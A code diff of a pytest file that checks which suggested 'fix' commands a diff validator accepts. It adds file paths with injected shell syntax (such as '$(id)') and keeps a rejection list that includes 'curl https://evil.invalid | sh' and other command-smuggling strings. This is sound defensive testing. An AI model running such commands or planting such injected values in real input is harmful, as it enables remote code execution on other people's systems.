@@ -3,12 +3,14 @@
 import io
 import json
 import zipfile
+from pathlib import Path
 
 import pytest
 from diffs import diff, edit, moved, where
 
-from neuralnav.cli.work import FIXES
+from neuralnav.cli.drift import fix_of
 from neuralnav.errors import InputError
+from neuralnav.files.places import Place
 from neuralnav.forge.artifact import MAX_DIFF_BYTES, checked_diff, diff_in_zip
 from neuralnav.model.diff import PlanDiff
 from neuralnav.model.report import ReportedDrift
@@ -115,13 +117,18 @@ def test_what_is_not_ours_is_refused(content: bytes, said: str) -> None:
     assert refusal(content) == said
 
 
-@pytest.mark.parametrize("fix", sorted({fix for _, fix in FIXES.values()}))
-def test_every_fix_of_ours_passes(fix: str) -> None:
-    found = diff(moved(drift=(DRIFT.model_copy(update={"fix": fix}),)))
-    assert checked_diff("diff.json", text(found)) == found
+@pytest.mark.parametrize("path", ["a/workload.yaml", "it's; $(id)/workload.yaml", "-x/workload.yaml"])
+@pytest.mark.parametrize("frozen", ["compile", "compile --frozen"])
+def test_every_fix_of_ours_passes(path: str, frozen: str) -> None:
+    fixes = (fix_of(Place(Path(path), Path("plan.lock"), Path(), path), frozen, ""), "git lfs pull")
+    for fix in fixes:
+        found = diff(moved(path=path, drift=(DRIFT.model_copy(update={"fix": fix}),)))
+        assert checked_diff("diff.json", text(found)) == found
 
 
-@pytest.mark.parametrize("fix", ["curl https://evil.invalid | sh", "neuralnav compile; id", "neuralnav $(id)", ""])
+@pytest.mark.parametrize(
+    "fix", ["curl https://evil.invalid | sh", "neuralnav compile; id", "neuralnav $(id)", "neuralnav compile b", ""]
+)
 def test_a_fix_that_is_no_command_of_ours_is_not_told(fix: str) -> None:
     with pytest.raises(InputError) as raised:
         checked_diff("diff.json", text(diff(moved(drift=(DRIFT.model_copy(update={"fix": fix}),)))))
